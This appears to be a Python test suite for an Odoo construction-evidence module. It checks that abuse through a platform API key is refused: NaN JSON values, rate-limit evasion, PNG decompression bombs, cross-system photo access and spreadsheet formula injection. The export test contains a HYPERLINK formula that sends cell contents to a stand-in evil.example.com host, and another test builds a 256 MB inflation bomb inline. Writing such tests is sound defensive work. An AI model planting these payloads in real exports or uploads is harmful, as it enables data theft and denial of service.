"""What a leaked or hostile platform key can try against the field API and
Odoo's RPC, refused with nothing written."""

import base64
import io
import json
import xmlrpc.client
import zlib
from datetime import timedelta
from unittest import mock

import openpyxl
from PIL import PngImagePlugin

from odoo import fields, http
from odoo.addons.base.controllers.rpc import RPC_FAULT_CODE_ACCESS_ERROR
from odoo.addons.construction_field_evidence.lib import image as image_lib
from odoo.addons.construction_field_evidence.lib.tests.images import make_image, png_chunk
from odoo.tests import new_test_user, tagged

from .common import API
from .test_evidence_integrity import EvidenceCase


@tagged("post_install", "-at_install")
class TestFieldApiAbuse(EvidenceCase):
    def assertProblem(self, response, status, code):
        self.assertEqual(response.status_code, status, response.text)
        self.assertEqual(response.headers["Content-Type"], "application/problem+json")
        self.assertEqual(response.json()["code"], code)

    def stored(self):
        return self.Photo.search_count([("source_system_id", "=", self.system.id)])

    def test_nan_and_infinity_are_refused_wherever_json_enters(self):
        before = (self.stored(), self.Defect.search_count([]), self.Event.search_count([]))
        metadata = f'{{"site_id": {self.site.id}, "latitude": NaN, "longitude": Infinity}}'
        response = self.opener.post(
            self.base_url() + API + "/field/photos",
            files={"image": ("photo.jpg", self.image(), "image/jpeg")},
            data={"metadata": metadata},
            headers=self.headers(),
            timeout=60,
        )
        self.assertProblem(response, 400, "invalid_json")
        for number in ("NaN", "1e400", "-Infinity"):
            body = json.dumps(
                {"observations": [{"client_uuid": "o1", "site_id": self.site.id, "quantity": 0}]}
            ).replace('"quantity": 0', f'"quantity": {number}')
            with self.subTest(body=body):
                response = self.opener.post(
                    self.base_url() + API + "/field/batch",
                    data=body,
                    headers=dict(self.headers(), **{"Content-Type": "application/json"}),
                    timeout=60,
                )
                self.assertProblem(response, 400, "invalid_json")
        after = (self.stored(), self.Defect.search_count([]), self.Event.search_count([]))
        self.assertEqual(after, before)

    def test_field_uploads_count_against_the_systems_rate_limit(self):
        self.system.rate_limit = 2
        first = self.upload_http(self.image(), site_id=self.site.id)
        self.assertEqual(first.status_code, 201, first.text)
        batch = self.post_batch(
            {
                "photos": [
                    {"image_base64": base64.b64encode(self.image()).decode(), "site_id": site}
                    for site in (self.site.id, self.site.id)
                ]
            }
        )
        self.assertProblem(batch, 429, "rate_limited")
        self.assertEqual(batch.headers["Retry-After"], "60")
        second = self.upload_http(self.image(), site_id=self.site.id)
        self.assertEqual(second.status_code, 201, second.text)
        third = self.upload_http(self.image(), site_id=self.site.id)
        self.assertProblem(third, 429, "rate_limited")
        self.assertEqual(self.stored(), 2)

    def test_a_client_uuid_reused_for_other_bytes_is_a_conflict(self):
        first = self.upload_http(self.image(), site_id=self.site.id, client_uuid="cam-77")
        self.assertEqual(first.status_code, 201, first.text)
        again = self.upload_http(self.image(), site_id=self.site.id, client_uuid="cam-77")
        self.assertProblem(again, 409, "client_uuid_conflict")
        batch = self.post_batch(
            {
                "photos": [
                    {
                        "image_base64": base64.b64encode(self.image()).decode(),
                        "client_uuid": "cam-77",
                        "site_id": self.site.id,
                    }
                ]
            }
        )
        (item,) = batch.json()["photos"]
        self.assertEqual(
            (item["status"], item["error"]["code"]), ("rejected", "client_uuid_conflict")
        )
        self.assertEqual(self.stored(), 1)
        self.assertEqual(self.Photo.search([("client_uuid", "=", "cam-77")]).id, first.json()["id"])

    def test_a_png_is_decoded_once_and_its_inflation_is_capped(self):
        png = make_image((320, 240), image_format="PNG", colour=(7, 7, 7))
        prepare = PngImagePlugin.PngImageFile.load_prepare  # once per decode of the pixels
        inflate = image_lib._png_pixels_intact
        with (
            mock.patch.object(
                PngImagePlugin.PngImageFile, "load_prepare", autospec=True, side_effect=prepare
            ) as decodes,
            mock.patch.object(image_lib, "_png_pixels_intact", side_effect=inflate) as checks,
        ):
            response = self.upload_http(png, "image/png", site_id=self.site.id)
        self.assertEqual(response.status_code, 201, response.text)
        self.assertEqual(decodes.call_count, 1, "the PNG's pixels were decoded more than once")
        self.assertEqual(checks.call_count, 1)
        # 4 x 4 pixels announced over a stream that inflates to 256 MB.
        small = make_image((4, 4), image_format="PNG")
        bomb = (
            small[: small.index(b"IDAT") - 4]
            + png_chunk(b"IDAT", zlib.compress(bytes(256 << 20), 9))
            + png_chunk(b"IEND", b"")
        )
        self.assertLess(len(bomb), 300_000)
        response = self.upload_http(bomb, "image/png", site_id=self.site.id)
        self.assertProblem(response, 422, "truncated_image")
        self.assertEqual(self.stored(), 1)


@tagged("post_install", "-at_install")
class TestServiceUserReach(EvidenceCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other_service = new_test_user(
            cls.env,
            login="roadscan_abuse",
            groups="construction_sync.group_construction_sync_field_api",
        )
        cls.other_system = cls.env["construction.sync.system"].create(
            {
                "name": "RoadScan abuse",
                "code": "roadscan_abuse",
                "kind": "field_evidence",
                "service_user_id": cls.other_service.id,
                "base_url": "https://roadscan.example.com/api",
                "note": "<p>Escalation: call 555-0100</p>",
            }
        )
        cls.theirs = cls.Photo._create_from_upload(
            cls.image(), "image/jpeg", {"site_id": cls.site.id}, cls.other_system
        )
        cls.theirs.write(
            {
                "name": "RoadScan lot 7 night shot",
                # the newest photo: first of a defect's photos for the office
                "captured_at": fields.Datetime.now() + timedelta(days=1),
            }
        )

    def reach(self, model):
        """What the platform's key finds of ``model`` over XML-RPC."""
        try:
            return self.as_platform(model, "search_read", [], ["display_name"])
        except xmlrpc.client.Fault as fault:
            self.assertEqual(fault.faultCode, RPC_FAULT_CODE_ACCESS_ERROR)
            return []

    def test_a_platform_key_reads_nothing_of_odoo_beyond_the_api(self):
        roller = self.env["maintenance.equipment"].create({"name": "Roller 9"})
        self.env["construction.equipment.rate"].create(
            {"equipment_id": roller.id, "date_from": "2026-01-01", "hourly_rate": 85.0}
        )
        for model in (
            "construction.sync.system",
            "construction.equipment.rate",
            "construction.sync.event.type",
            "maintenance.equipment",
            "hr.employee",
            "project.project",
        ):
            with self.subTest(model=model):
                self.assertTrue(self.env[model].search_count([]))
                self.assertEqual(self.reach(model), [])
        self.assertEqual({row["id"] for row in self.reach("res.users")} - {self.service.id}, set())
        partners = {row["id"] for row in self.reach("res.partner")}
        self.assertEqual(partners - {self.service.partner_id.id}, set())
        self.assertGreater(self.env["res.partner"].search_count([]), 5)
        # What the API needs still works with the same key.
        self.assertEqual(self.get("/field/stages").status_code, 200)
        self.assertEqual(self.get("/cost-codes").status_code, 200)

    def test_another_systems_photo_ids_are_refused_like_unknown_ones(self):
        def attach(photo_id):
            return self.assertRefused(
                self.as_platform,
                "construction.defect",
                "create",
                [
                    {
                        "site_id": self.site.id,
                        "category_id": self.pothole.id,
                        "source_system_id": self.system.id,
                        "photo_ids": [(6, 0, [photo_id])],
                    }
                ],
            )

        before = self.Defect.search_count([])
        foreign, unknown = attach(self.theirs.id), attach(999_999)
        self.assertEqual(
            foreign.replace(str(self.theirs.id), "ID"), unknown.replace("999999", "ID")
        )
        self.assertNotIn(self.theirs.name, foreign)
        mine = self.uploaded_photo()
        defect = self.Defect.create(
            {"site_id": self.site.id, "source_system_id": self.system.id, "photo_ids": mine.ids}
        )
        self.assertRefused(
            self.as_platform,
            "construction.defect.annotation",
            "create",
            [
                {
                    "defect_id": defect.id,
                    "photo_id": self.theirs.id,
                    "x": 0.1,
                    "y": 0.1,
                    "width": 0.1,
                    "height": 0.1,
                }
            ],
        )
        self.assertEqual(self.Defect.search_count([]), before + 1)
        self.assertEqual(defect.photo_ids, mine)

    def test_the_cover_of_a_defect_shows_the_reader_only_photos_it_may_read(self):
        mine = self.uploaded_photo()
        defect = self.Defect.create(
            {
                "site_id": self.site.id,
                "source_system_id": self.system.id,
                "photo_ids": [(6, 0, (self.theirs | mine).ids)],
            }
        )
        self.assertEqual(defect.photo_ids[:1], self.theirs)  # the office sees both
        (row,) = self.as_platform(
            "construction.defect", "read", defect.ids, ["cover_photo_id", "cover_thumbnail"]
        )
        self.assertEqual(row["cover_photo_id"][0], mine.id)
        self.assertNotIn(self.theirs.name, json.dumps(row))
        self.assertEqual(row["cover_thumbnail"], mine.image_thumbnail.decode())
        with self.assertRaises(xmlrpc.client.Fault) as caught:
            self.as_platform("construction.photo", "read", self.theirs.ids, ["image_thumbnail"])
        self.assertEqual(caught.exception.faultCode, RPC_FAULT_CODE_ACCESS_ERROR)


@tagged("post_install", "-at_install")
class TestExportOfPlatformText(EvidenceCase):
    def test_text_a_platform_sent_is_exported_as_text_not_as_a_formula(self):
        formula = '=HYPERLINK("https://evil.example.com/?d="&A1,"Open the plan")'
        photo = self.uploaded_photo(note=formula, filename="=1+2")
        new_test_user(
            self.env,
            login="exporting_reviewer",
            password="exporting_reviewer",
            groups="construction_sync.group_construction_sync_reviewer,base.group_allow_export",
        )
        self.authenticate("exporting_reviewer", "exporting_reviewer")
        fields_ = [
            {"name": name, "label": name, "type": "char"} for name in ("name", "note", "checksum")
        ]
        for groupby in ([], ["name"]):
            with self.subTest(groupby=groupby):
                response = self.url_open(
                    "/web/export/xlsx",
                    data={
                        "data": json.dumps(
                            {
                                "model": "construction.photo",
                                "fields": fields_,
                                "ids": photo.ids,
                                "domain": [("id", "=", photo.id)],
                                "groupby": groupby,
                                "import_compat": False,
                            }
                        ),
                        "csrf_token": http.Request.csrf_token(self),
                    },
                )
                self.assertEqual(response.status_code, 200, response.text[-500:])
                sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
                cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
                texts = {cell.value: cell.data_type for cell in cells}
                self.assertEqual(texts.get(formula), "s", texts)
                self.assertFalse([cell for cell in cells if cell.data_type == "f"])
                self.assertIn(photo.checksum, texts)
